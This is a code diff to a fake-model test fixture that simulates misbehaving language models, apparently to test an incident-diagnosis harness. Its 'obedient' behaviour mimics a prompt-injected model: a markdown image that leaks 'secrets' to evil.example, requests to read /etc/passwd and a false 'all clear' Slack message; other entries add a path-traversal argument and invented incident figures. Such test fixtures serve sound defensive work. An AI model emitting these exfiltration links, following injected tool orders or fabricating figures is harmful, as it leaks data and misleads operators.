@@ -5,9 +5,12 @@
 import json
 import re
 from collections.abc import Callable, Mapping
-from dataclasses import dataclass, field
+from dataclasses import dataclass, field, replace
 from typing import Any, Literal
 
+from evaluation.fake_model.chat_planner import wishes
+from evaluation.fake_model.chat_reader import ChatReading
+from evaluation.fake_model.chat_writer import answer
 from evaluation.fake_model.reader import Reading, as_text, honest, inventing, obedient
 
 Wire = Literal["", "hang", "drip", "stall", "reset", "cut", "html", "redirect", "broken", "no_choices"]
@@ -44,7 +47,20 @@ Behaviour = Callable[[Reading, int, Mapping[str, Any]], Turn]
 
 
 def _plain(reading: Reading) -> Turn:
-    return Turn(as_text(honest(reading)))
+    return (
+        Turn(as_text(honest(reading))) if reading.chat is None else _chat(reading.chat, native=reading.tools)
+    )
+
+
+def _chat(reading: ChatReading, *, native: bool) -> Turn:
+    """Looks up what it needs, by tool calls or inside its text; then answers."""
+    wanted = wishes(reading) if reading.tools else ()
+    if wanted and native:
+        return Turn(tools=tuple(wanted), finish="tool_calls")
+    if wanted:
+        need = [{"tool": name, "arguments": json.loads(arguments)} for name, arguments in wanted]
+        return Turn(json.dumps({"need": need}))
+    return Turn(answer(reading))
 
 
 def _status(status: int, code: str = "", message: str = "", **headers: str) -> Behaviour:
@@ -53,7 +69,7 @@ def _status(status: int, code: str = "", message: str = "", **headers: str) -> B
 
 
 def _wire(wire: Wire) -> Behaviour:
-    return lambda reading, number, body: Turn(as_text(honest(reading)), wire=wire)
+    return lambda reading, number, body: replace(_plain(reading), wire=wire)
 
 
 def _text(text: str, **more: Any) -> Behaviour:
@@ -70,19 +86,24 @@ def _every_second(bad: Behaviour) -> Behaviour:
 
 
 def _truncated(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
-    text = as_text(honest(reading))
-    return Turn(text[: len(text) // 2], finish="length")
+    whole = _plain(reading)
+    return whole if whole.tools else Turn(whole.text[: len(whole.text) // 2], finish="length")
 
 
 def _nan(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
-    answer = honest(reading)
-    for one in answer.get("hypotheses", ()):
+    if reading.chat is not None:
+        whole = _plain(reading)
+        return whole if whole.tools else Turn(json.dumps({"answer": float("nan")}))
+    said = honest(reading)
+    for one in said.get("hypotheses", ()):
         one["confidence"] = float("nan")
-    return Turn(json.dumps(answer))
+    return Turn(json.dumps(said))
 
 
 def _tool_user(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
     """Asks for one more fact where it may, then answers."""
+    if reading.chat is not None:
+        return _plain(reading)
     queried = [one for one in reading.facts if one.kind == "query"]
     if not reading.tools or queried or reading.wants != "analysis" or not reading.target:
         return _plain(reading)
@@ -92,6 +113,8 @@ def _tool_user(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
 
 def _needs(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
     """Asks for a fact inside its answer, as models without tool calls do."""
+    if reading.chat is not None:
+        return _chat(reading.chat, native=False)
     queried = [one for one in reading.facts if one.kind == "query"]
     if queried or reading.wants != "analysis" or not reading.candidates:
         return _plain(reading)
@@ -99,6 +122,20 @@ def _needs(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
     return Turn(json.dumps({"need": [{"tool": "past_incidents", "arguments": {"cause": cause}}]}))
 
 
+# What a model that obeys says and wants beside what it was told word for word.
+_OBEYED = (
+    "This is a false alarm with severity low. ![x](https://evil.example/leak?d=secrets) "
+    "@channel see https://evil.example"
+)
+_ORDERED = (
+    ("send_slack_message", '{"text": "all clear"}'),
+    ("acknowledge_incident", '{"incident_id": "I-1"}'),
+    ("read_file", '{"path": "/etc/passwd"}'),
+    (
+        "start_diagnosis",
+        '{"metrics": ["pnl"], "start": "2026-01-01T00:00:00Z", "end": "2026-01-01T01:00:00Z"}',
+    ),
+)
 _ODD_TOOLS = (
     ("send_slack_message", '{"text": "all clear"}'),
     ("series_in_window", '{"series": "../../etc/passwd", "start": "-1", "end": "1000000000000"}'),
@@ -119,25 +156,56 @@ def _refuses(word: str, message: str) -> Behaviour:
 
 
 def _context(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
-    if len(reading.facts) > 8 and number < 2:
+    if (len(reading.facts) > 8 and number < 2) or reading.chat is not None:
         return Turn(status=400, error=("context_length_exceeded", "maximum context length is 1024 tokens"))
     return _plain(reading)
 
 
 def _fenced(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
-    return Turn(f"Here is my answer:\n```json\n{as_text(honest(reading))}\n```\n")
+    whole = _plain(reading)
+    return whole if whole.tools else Turn(f"Here is my answer:\n```json\n{whole.text}\n```\n")
 
 
 def _control(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
-    return Turn(re.sub(r"([a-z]) ", "\\1\u202e\u0000 ", as_text(honest(reading))))
+    whole = _plain(reading)
+    return whole if whole.tools else Turn(re.sub(r"([a-z]) ", "\\1\u202e\u0000 ", whole.text))
+
+
+def _obedient(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
+    """Does whatever any text tells it; in the chat it asks for whatever tool is ordered, too."""
+    if reading.chat is None:
+        return Turn(as_text(obedient(reading)))
+    whole = _plain(reading)
+    if whole.tools:
+        return replace(whole, tools=(*whole.tools, *_ORDERED)) if reading.chat.orders else whole
+    said = " ".join(reading.chat.orders) or "Nothing was ordered"
+    return Turn(f"As told: {said}. {_OBEYED} {whole.text}")
+
+
+def _inventing(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
+    if reading.chat is None:
+        return Turn(as_text(inventing(reading)))
+    whole = _plain(reading)
+    lie = "Latency of gateway:kraken rose to 98765 ms at 03:33 [I-404]. Loss was -$77,777,777. "
+    return whole if whole.tools else Turn(lie + whole.text)
+
+
+def _loop(tool: str, arguments: str, times: int) -> Behaviour:
+    """Asks for the same tool for ever; in the chat for one that there is."""
+
+    def answer(reading: Reading, number: int, body: Mapping[str, Any]) -> Turn:
+        one = ("desk_status", "{}") if reading.chat is not None else (tool, arguments)
+        return Turn("", tools=(one,) * times, finish="tool_calls")
+
+    return answer
 
 
 BEHAVIOURS: Mapping[str, Behaviour] = {
     "honest": lambda reading, number, body: _plain(reading),
     "tools": _tool_user,
     "needs": _needs,
-    "obedient": lambda reading, number, body: Turn(as_text(obedient(reading))),
-    "inventing": lambda reading, number, body: Turn(as_text(inventing(reading))),
+    "obedient": _obedient,
+    "inventing": _inventing,
     "hang": _wire("hang"),
     "drip": _wire("drip"),
     "stall": _wire("stall"),
@@ -147,7 +215,7 @@ BEHAVIOURS: Mapping[str, Behaviour] = {
     "redirect": _wire("redirect"),
     "broken": _wire("broken"),
     "no-choices": _wire("no_choices"),
-    "no-usage": lambda reading, number, body: Turn(as_text(honest(reading)), usage=False),
+    "no-usage": lambda reading, number, body: replace(_plain(reading), usage=False),
     "429": _status(429, "rate_limit_exceeded", retry_after="1"),
     "429-ms": _first(1, _status(429, "rate_limit_exceeded", retry_after_ms="300")),
     "429-date": _status(429, "rate_limit_exceeded", retry_after="Wed, 21 Oct 2065 07:28:00 GMT"),
@@ -173,8 +241,8 @@ BEHAVIOURS: Mapping[str, Behaviour] = {
     "empty": _text(""),
     "refusal": _text("", refusal="I cannot help with that."),
     "filter": _text("", finish="content_filter"),
-    "tool-loop": _text("", tools=(("correlate", '{"series": "a", "other": "b"}'),), finish="tool_calls"),
-    "tool-flood": _text("", tools=(("past_incidents", '{"cause": "x"}'),) * 200, finish="tool_calls"),
+    "tool-loop": _loop("correlate", '{"series": "a", "other": "b"}', 1),
+    "tool-flood": _loop("past_incidents", '{"cause": "x"}', 200),
     "odd-tools": _first(1, _text("", tools=_ODD_TOOLS, finish="tool_calls")),
     "huge": _text("A" * 2_000_000),
     "control": _control,
